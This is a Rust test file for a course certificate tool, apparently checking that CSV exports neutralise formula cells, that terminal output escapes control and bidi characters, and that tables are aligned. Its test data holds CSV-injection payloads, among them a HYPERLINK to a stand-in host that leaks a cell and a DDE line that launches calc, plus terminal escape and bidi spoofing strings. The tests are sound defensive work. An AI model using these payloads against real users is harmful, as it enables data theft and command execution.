//! Issue 22, findings 9, 10 and 15: what a student controls (her roster
//! name, her report text, her SID) reaches the instructor's spreadsheet as
//! inert text and her terminal as visible escapes; `--format table` of
//! `reports` and `certs` is aligned columns with RFC 3339 times.

use std::io::Write;

use certboard::admin::{self, AdminError, Format, ReportFilter};
use certboard::store::{Origin, Record, ReportRecord, SqliteStore, Storage, Student};
use certboard::testing::{CaParams, Student as Enrolled};
use certboard::time::{now_unix, rfc3339};

type TestResult = Result<(), Box<dyn std::error::Error>>;

/// What a hostile class puts in the store: names and a report a
/// spreadsheet would run, and a terminal would obey.
const NAMES: [(&str, &str); 6] = [
    ("s1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"grade\")"),
    ("s2", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("s3", "+1+1"),
    ("s4", "-2+3"),
    ("s5", "\tTabbed"),
    ("s6", "Chan Tai Man"),
];
const ESC_NAME: &str = "\x1b]0;owned\x07\x1b[2JEve";
const BIDI_REPORT: &str = "=1+1\nline with \u{202e}txt.exe\u{202c} and \x1b[2K\n";

fn store_with_class(dir: &std::path::Path) -> Result<SqliteStore, Box<dyn std::error::Error>> {
    let ca = CaParams::default().create(&dir.join("keys"))?;
    let mut store = SqliteStore::open(&dir.join("data"))?;
    let mut roster: Vec<Student> = NAMES
        .iter()
        .map(|(sid, name)| Student {
            sid: (*sid).into(),
            name: (*name).into(),
            email: None,
        })
        .collect();
    // A name stored before imports refused such names: listings still
    // escape it.
    roster.push(Student {
        sid: "s7".into(),
        name: ESC_NAME.into(),
        email: None,
    });
    // A SID a spreadsheet reads as a formula (`-A1` is one).
    roster.push(Student {
        sid: "-A1".into(),
        name: "Dash".into(),
        email: None,
    });
    store.import_roster(&roster)?;
    for sid in ["s1", "-A1"] {
        let issued = Enrolled::enroll(&ca, sid)?.issued;
        let serial = issued.serial.clone();
        store.commit(&[certboard::protocol::cert_record(
            issued,
            Origin::Certboard,
            certboard::store::Authorisation::Open,
        )])?;
        if sid == "s1" {
            store.commit(&[Record::Report(ReportRecord {
                receipt_id: 42,
                sid: sid.into(),
                serial,
                received_at: now_unix(),
                text: BIDI_REPORT.into(),
                origin: Origin::Certboard,
                assignment: "lab".into(),
                late_by: None,
            })])?;
        }
    }
    Ok(store)
}

fn text(
    f: impl FnOnce(&mut dyn Write) -> Result<(), AdminError>,
) -> Result<String, Box<dyn std::error::Error>> {
    let mut out = Vec::new();
    f(&mut out)?;
    Ok(String::from_utf8(out)?)
}

/// Every cell of a CSV text (a small reader: the fields here hold no
/// quoted line breaks but the report text, which is the last column).
fn first_chars_of_cells(csv: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut at_start = true;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            '"' if at_start => quoted = true,
            '"' if quoted => quoted = false,
            ',' | '\n' if !quoted => {
                cells.push(std::mem::take(&mut field));
                at_start = true;
                continue;
            }
            '\r' if !quoted => continue,
            _ => field.push(c),
        }
        at_start = false;
    }
    cells
}

fn assert_inert(csv: &str) {
    for cell in first_chars_of_cells(csv) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula cell {cell:?} in\n{csv}"
        );
    }
}

#[test]
fn every_csv_export_neutralises_formula_cells() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut store = store_with_class(dir.path())?;

    let status = text(|o| admin::status(&mut store, Format::Csv, o))?;
    assert_inert(&status);
    assert!(status.contains("\"'=HYPERLINK("), "{status}");
    assert!(status.contains(",'@SUM(1+1)"), "{status}");
    assert!(status.contains(",'+1+1,"), "{status}");
    assert!(status.contains(",'-2+3,"), "{status}");
    assert!(status.contains(",'\tTabbed,"), "{status}");
    assert!(status.contains("'-A1,Dash,"), "{status}");
    assert!(
        status.contains(",Chan Tai Man,"),
        "ordinary names untouched"
    );

    let reports = text(|o| admin::reports(&mut store, &ReportFilter::default(), Format::Csv, o))?;
    assert_inert(&reports);
    assert!(reports.contains(",\"'=1+1\n"), "{reports}");

    let certs = text(|o| admin::certs(&mut store, Format::Csv, o))?;
    assert_inert(&certs);
    assert!(certs.contains(",'-A1,"), "{certs}");

    // The codes file goes through the same writer.
    let codes = dir.path().join("codes.csv");
    admin::issue_codes(&mut store, &codes, &admin::CodeRequest::default())?;
    let codes = std::fs::read_to_string(&codes)?;
    assert_inert(&codes);
    Ok(())
}

/// No byte a terminal obeys: C0 but newline, DEL, C1, bidi controls.
fn assert_shown_not_run(out: &str) {
    for c in out.chars() {
        assert!(
            c == '\n' || !certboard::escape::needs_escape(c),
            "{c:?} printed raw in\n{out}"
        );
    }
}

#[test]
fn every_terminal_view_escapes_controls_and_bidi() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut store = store_with_class(dir.path())?;
    let full = ReportFilter {
        full: true,
        ..Default::default()
    };
    let status = text(|o| admin::status(&mut store, Format::Table, o))?;
    assert_shown_not_run(&status);
    assert!(status.contains("\\x1b]0;owned\\x07\\x1b[2JEve"), "{status}");
    let status = text(|o| admin::status(&mut store, Format::Lines, o))?;
    assert_shown_not_run(&status);
    for format in [Format::Table, Format::Lines] {
        for filter in [&ReportFilter::default(), &full] {
            let out = text(|o| admin::reports(&mut store, filter, format, o))?;
            assert_shown_not_run(&out);
            if filter.full {
                assert!(out.contains("\\u{202e}"), "{format:?}:\n{out}");
                assert!(out.contains("\\x1b[2K"), "{format:?}:\n{out}");
            }
        }
        let out = text(|o| admin::certs(&mut store, format, o))?;
        assert_shown_not_run(&out);
    }
    Ok(())
}

#[test]
fn roster_import_refuses_control_and_bidi_names_by_line() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut store = SqliteStore::open(&dir.path().join("data"))?;
    let path = dir.path().join("roster.csv");
    std::fs::write(
        &path,
        format!(
            "sid,name\r\n1155000001,Chan Tai Man\r\n1155000002,{ESC_NAME}\r\n\
             1155000003,\"Eve \u{202e}reversed\"\r\n1155000004,{}\r\n",
            "é".repeat(201)
        ),
    )?;
    let err = admin::import_roster(&mut store, &path, admin::Unverified::Ask)
        .err()
        .ok_or("imported names with control characters")?;
    let message = err.to_string();
    assert!(message.contains("line 3: SID 1155000002"), "{message}");
    assert!(message.contains("line 4: SID 1155000003"), "{message}");
    assert!(message.contains("control or bidi"), "{message}");
    assert!(
        message.contains("line 5: SID 1155000004: the name is 201 characters long; at most 200"),
        "{message}"
    );
    // The error itself is safe to print.
    assert_shown_not_run(&message);
    assert!(store.roster()?.is_empty(), "nothing imported");
    Ok(())
}

#[test]
fn table_format_is_aligned_columns_with_rfc3339_times() -> TestResult {
    let dir = tempfile::tempdir()?;
    let mut store = store_with_class(dir.path())?;
    let received = store.reports()?[0].received_at;
    let certs_rows = store.certs()?;

    let reports = text(|o| admin::reports(&mut store, &ReportFilter::default(), Format::Table, o))?;
    let lines: Vec<&str> = reports.lines().collect();
    assert_eq!(lines.len(), 2, "{reports}");
    assert!(lines[0].starts_with("receipt"), "a header: {reports}");
    assert!(!reports.contains("sid="), "not key=value: {reports}");
    assert!(reports.contains(&rfc3339(received)), "{reports}");
    assert!(!reports.contains(" GMT"), "no OpenSSL dates: {reports}");
    // Aligned: each heading starts where its column's value does.
    for (head, value) in [("sid", "s1"), ("received_at", &rfc3339(received)[..])] {
        assert_eq!(lines[0].find(head), lines[1].find(value), "{reports}");
    }

    let certs = text(|o| admin::certs(&mut store, Format::Table, o))?;
    let lines: Vec<&str> = certs.lines().collect();
    assert_eq!(lines.len(), 3, "{certs}");
    assert!(lines[0].starts_with("serial"), "{certs}");
    assert!(!certs.contains("serial="), "{certs}");
    assert!(!certs.contains(" GMT"), "{certs}");
    for c in &certs_rows {
        assert!(certs.contains(&rfc3339(c.not_after)), "{certs}");
    }
    let col = |l: &str, w: &str| l.find(w);
    assert_eq!(
        col(lines[0], "not_after"),
        col(lines[1], &rfc3339(certs_rows[0].not_after))
    );
    assert_eq!(
        col(lines[1], &rfc3339(certs_rows[0].not_after)),
        col(lines[2], &rfc3339(certs_rows[1].not_after)),
        "{certs}"
    );
    Ok(())
}
